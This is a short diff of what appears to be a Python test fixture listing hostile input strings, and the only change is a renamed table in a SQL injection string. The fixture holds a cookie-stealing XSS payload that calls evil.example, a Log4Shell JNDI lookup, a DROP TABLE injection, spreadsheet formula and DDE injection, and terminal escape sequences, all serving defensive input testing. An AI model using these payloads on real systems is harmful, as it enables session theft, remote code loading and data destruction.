@@ -31,7 +31,7 @@ _UNICODE: Final = (
 )
 _HOSTILE: Final = (
     "<script>fetch('//evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>",
-    "'; DROP TABLE container_metric; --",
+    "'; DROP TABLE samples; --",
     "${jndi:ldap://evil.example/a} %s%s%n {0} {{7*7}}",
     '=HYPERLINK("http://evil.example","sum")|cmd \'/C calc\'!A0',
     "\x1b]0;owned\x07\x1b[2J\x1b[1;1Htitle set, screen cleared",
